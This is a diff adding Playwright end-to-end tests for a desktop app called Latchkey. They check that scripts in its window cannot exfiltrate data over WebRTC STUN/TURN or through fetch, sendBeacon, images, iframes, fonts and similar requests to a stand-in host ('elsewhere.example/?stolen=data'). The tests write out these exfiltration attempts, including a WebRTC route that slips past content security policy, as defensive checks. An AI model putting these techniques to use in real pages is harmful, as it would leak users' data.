@@ -1,0 +1,136 @@
+/** A script in the window reaches no network: not by requests, which CSP stops, and not by WebRTC, which no CSP knows. */
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { type AddressInfo, createServer } from 'node:net';
+import { expect, test } from '@playwright/test';
+import { chromium, type Page } from 'playwright-core';
+import { findChromium } from '../../scripts/lib/chromium.mjs';
+import { appReady } from './support/driver.ts';
+import { launchLatchkey } from './support/launch.ts';
+
+interface Listeners {
+  readonly udp: number;
+  readonly tcp: number;
+  /** Packets and connections so far. */
+  readonly heard: { udp: number; tcp: number };
+  close(): void;
+}
+
+/** A server on loopback that waits for STUN and TURN, by UDP and by TCP. */
+async function listen(): Promise<Listeners> {
+  const heard = { udp: 0, tcp: 0 };
+  const udp = createSocket('udp4', () => {
+    heard.udp += 1;
+  });
+  udp.bind(0, '127.0.0.1');
+  const tcp = createServer((socket) => {
+    heard.tcp += 1;
+    socket.on('error', () => {}).destroy();
+  }).listen(0, '127.0.0.1');
+  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
+  const close = () => void [udp.close(), tcp.close()];
+  return { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port, heard, close };
+}
+
+/** Connects as a script does that wants to send data out; ends when nothing more will be tried, or after `waitMs`. */
+const connect = (page: Page, { udp, tcp }: Listeners, waitMs: number): Promise<string> =>
+  page.evaluate(
+    async ([toUdp, toTcp, most]) => {
+      const login = { username: 'stolen', credential: 'data' };
+      const connection = new RTCPeerConnection({
+        iceServers: [
+          { urls: `stun:127.0.0.1:${toUdp}` },
+          { urls: `turn:127.0.0.1:${toUdp}?transport=udp`, ...login },
+          { urls: `turn:127.0.0.1:${toTcp}?transport=tcp`, ...login },
+          { urls: `turns:127.0.0.1:${toTcp}?transport=tcp`, ...login },
+        ],
+      });
+      connection.createDataChannel('out');
+      const ended = new Promise<void>((resolve) => {
+        connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
+      });
+      await connection.setLocalDescription();
+      await Promise.race([ended, new Promise((resolve) => setTimeout(resolve, most))]);
+      return connection.iceGatheringState;
+    },
+    [udp, tcp, waitMs] as const,
+  );
+
+test('the window sends nothing over WebRTC, by UDP or TCP, where a browser does', async () => {
+  const listeners = await listen();
+  const executablePath = findChromium();
+  expect(executablePath).not.toBeNull();
+  const root = process.getuid?.() === 0;
+  const browser = await chromium.launch({ executablePath: executablePath ?? '', args: root ? ['--no-sandbox'] : [] });
+  void connect(await browser.newPage(), listeners, 60_000).catch(() => {});
+  await expect.poll(() => listeners.heard.udp > 0 && listeners.heard.tcp > 0).toBe(true);
+  await browser.close();
+
+  const latchkey = await launchLatchkey({ env: { LATCHKEY_HOST_NETWORK: 'app' } });
+  await appReady(latchkey.page);
+  Object.assign(listeners.heard, { udp: 0, tcp: 0 });
+  expect(await connect(latchkey.page, listeners, 20_000)).toBe('complete');
+  expect(listeners.heard).toEqual({ udp: 0, tcp: 0 });
+  await latchkey.close();
+  listeners.close();
+});
+
+test('requests of a script end at the page’s policy', async () => {
+  const latchkey = await launchLatchkey({ runtime: 'host' });
+  const { page } = latchkey;
+  await appReady(page);
+  const stopped = await page.evaluate(async () => {
+    const elsewhere = 'https://elsewhere.example/?stolen=data';
+    const directives: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      directives.push(effectiveDirective),
+    );
+    const attempts = [
+      () => fetch(elsewhere, { mode: 'no-cors' }),
+      () => navigator.sendBeacon(elsewhere, 'data'),
+      () => new EventSource(elsewhere),
+      () => new Worker('data:text/javascript,0'),
+      () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: elsewhere })),
+      () => document.head.append(Object.assign(document.createElement('script'), { src: elsewhere })),
+      () => document.body.append(Object.assign(document.createElement('img'), { src: elsewhere })),
+      () => document.body.append(Object.assign(document.createElement('iframe'), { src: elsewhere })),
+      () => document.body.append(Object.assign(document.createElement('object'), { data: elsewhere })),
+      () => new FontFace('out', `url(${elsewhere})`).load(),
+    ];
+    for (const attempt of attempts) {
+      try {
+        await attempt();
+      } catch {
+        // It is stopped.
+      }
+    }
+    for (let turn = 0; turn < 25; turn += 1) await new Promise((resolve) => setTimeout(resolve, 20));
+    return [...new Set(directives)].sort();
+  });
+  expect(stopped).toEqual([
+    ...['connect-src', 'font-src', 'frame-src', 'img-src', 'object-src', 'script-src-elem', 'style-src-elem'],
+    'worker-src',
+  ]);
+  // The host hears of what passes the policy. It replaces WebSocket, so that one is not tried.
+  expect(latchkey.facts.filter(({ host }) => host === 'refused-request')).toEqual([]);
+  await latchkey.close();
+});
+
+test('a link opens only when the person confirms its host', async () => {
+  const latchkey = await launchLatchkey({ runtime: 'host' });
+  const { page } = latchkey;
+  await appReady(page);
+  const opened = () => latchkey.facts.filter(({ host }) => host === 'opened-outside');
+  const open = (url: string) =>
+    page.evaluate((address) => {
+      const bridge = window as unknown as { latchkey: { app: { openLink(input: object): Promise<unknown> } } };
+      return bridge.latchkey.app.openLink({ url: address });
+    }, url);
+  await page.evaluate(() => window.open('https://elsewhere.example/?stolen=data'));
+  await open('https://elsewhere.example/?stolen=data');
+  expect(opened()).toEqual([]);
+  await latchkey.answerMessageBox(0);
+  await open('https://docs.example/');
+  expect(opened()).toEqual([{ host: 'opened-outside', url: 'https://docs.example/' }]);
+  await latchkey.close();
+});
